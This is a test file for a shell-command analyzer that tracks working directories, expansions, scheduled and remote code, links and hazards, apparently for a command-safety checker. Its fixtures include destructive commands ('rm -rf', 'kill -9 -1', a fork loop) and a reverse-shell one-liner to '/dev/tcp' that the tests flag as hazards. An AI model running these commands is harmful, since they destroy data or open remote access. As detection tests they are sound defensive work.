// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell, not templates
// The walk's newer reach: directories, aliases, namerefs, arithmetic, fresh paths, remote and
// scheduled code, descriptors, links, and what it cannot see (kept as unknown, with its origin).
import { describe, expect, test } from "bun:test";
import { analyzeCommand } from "./analyze.ts";

const PROJ = { cwd: ["/home/u/proj"] };
const find = (command: string, name: string, opts = PROJ) =>
  analyzeCommand(command, opts).invocations.filter((i) => i.name === name);
const argvs = (command: string, opts = PROJ) =>
  analyzeCommand(command, opts).invocations.map((i) => i.argv.join(" "));

describe("where each program runs", () => {
  test("env -C, sudo -D, pushd/popd and CDPATH", () => {
    expect(find("env -C /etc rm x", "rm")[0]?.cwd).toEqual(["/etc"]);
    expect(find("sudo --chdir=/usr rm x; rm y", "rm").map((i) => i.cwd)).toEqual([
      ["/usr"],
      ["/home/u/proj"],
    ]);
    expect(find("pushd /var && popd && rm x", "rm")[0]?.cwd).toContain("/home/u/proj");
    expect(find("CDPATH=/usr cd lib && ls", "ls")[0]?.cwd).toEqual([
      "/usr/lib",
      "/home/u/proj/lib",
    ]);
    expect(find('cd "$X" && ls', "ls")[0]?.cwd).toEqual(["?"]);
    expect(find('cd /tmp && echo "$OLDPWD"', "echo")[0]?.argv).toEqual(["echo", "/home/u/proj"]);
  });

  test("a remote command runs in the home; $(pwd) is the directory", () => {
    expect(find("ssh host 'rm -rf build'", "rm")[0]?.cwd).toEqual(["~"]);
    expect(argvs("echo $(pwd)")).toContain("echo /home/u/proj");
  });
});

describe("values the shell computes", () => {
  test("aliases used later, namerefs, indirect expansion, arithmetic, HOME assigned", () => {
    expect(argvs("shopt -s expand_aliases\nalias x='rm -f'\nx a b")).toContain("rm -f a b");
    expect(argvs("declare -n r=p; p=make; $r all")).toContain("make all");
    expect(argvs("x=make; y=x; ${!y} all")).toContain("make all");
    expect(argvs("kill -9 -$((0+1))")).toContain("kill -9 -1");
    expect(argvs("HOME=/srv; echo ~/x")).toContain("echo /srv/x");
  });

  test("mktemp, which and git rev-parse --show-toplevel print paths we can name", () => {
    expect(argvs('t=$(mktemp -d); rm -rf "$t"/*')).toContain("rm -rf /tmp/tmp.XXXXXXXXXX/*");
    expect(argvs("$(which rm) -f x")).toContain("/usr/bin/rm -f x");
    expect(argvs('rm -rf "$(git rev-parse --show-toplevel)/b"')).toContain("rm -rf /home/u/proj/b");
  });

  test("an unquoted unknown expansion stays an unknown argument, with where it came from", () => {
    const rm = find("rm -rf $(cat dirs.txt)", "rm")[0];
    expect(rm?.argv).toEqual(["rm", "-rf", ""]);
    expect(rm?.args[2]).toEqual({ dynamic: true, origin: "$(cat dirs.txt)" });
  });
});

describe("code run later or elsewhere is walked now", () => {
  test("cron tables, at jobs, startup files, tmux, screen", () => {
    expect(argvs("echo '*/5 * * * * make -C ~/p sync' | crontab -")).toContain("make -C ~/p sync");
    expect(argvs("echo 'make test' | at now + 1 hour")).toContain("make test");
    expect(argvs("echo 'ls -la' >> ~/.bashrc")).toContain("ls -la");
    expect(argvs("tmux new -d -s x 'make build'")).toContain("make build");
  });

  test("descriptors, stdin paths and files written in the line", () => {
    expect(argvs("bash /dev/fd/3 3<<< 'make x'")).toContain("make x");
    expect(argvs("exec 3<<< 'make y'; sh /dev/fd/3")).toContain("make y");
    expect(argvs("echo 'make z' > s.sh; bash s.sh")).toContain("make z");
  });

  test("what cannot be seen is reported with its origin", () => {
    expect(analyzeCommand("echo x | head -1 | sh").dynamicCode[0]).toMatchObject({
      via: "sh",
      origin: "head -1",
    });
    // A file read as it is runs as visibly as `sh script.sh`: nothing unseen.
    expect(analyzeCommand("cat script.sh | sh").dynamicCode).toEqual([]);
  });
});

describe("links and hazards", () => {
  test("symlinks and bind mounts made in the line", () => {
    expect(analyzeCommand("ln -sfn / x", PROJ).links).toEqual([
      { from: "/home/u/proj/x", to: "/" },
    ]);
    expect(analyzeCommand("mount --bind /etc /mnt/e", PROJ).links).toEqual([
      { from: "/mnt/e", to: "/etc" },
    ]);
  });

  test("endless loops of background jobs, endless output to a file, shells on the network", () => {
    const kinds = (c: string) => analyzeCommand(c).hazards.map((h) => h.kind);
    expect(kinds("while true; do sleep 1 & done")).toEqual(["fork-loop"]);
    expect(kinds("for i in 1 2 3; do sleep 1 & done")).toEqual([]);
    expect(kinds("yes > /var/tmp/f")).toEqual(["endless-output"]);
    expect(kinds("yes | head -1 > f")).toEqual([]);
    expect(kinds("bash -i >& /dev/tcp/h/1 0>&1")).toEqual(["reverse-shell"]);
  });
});
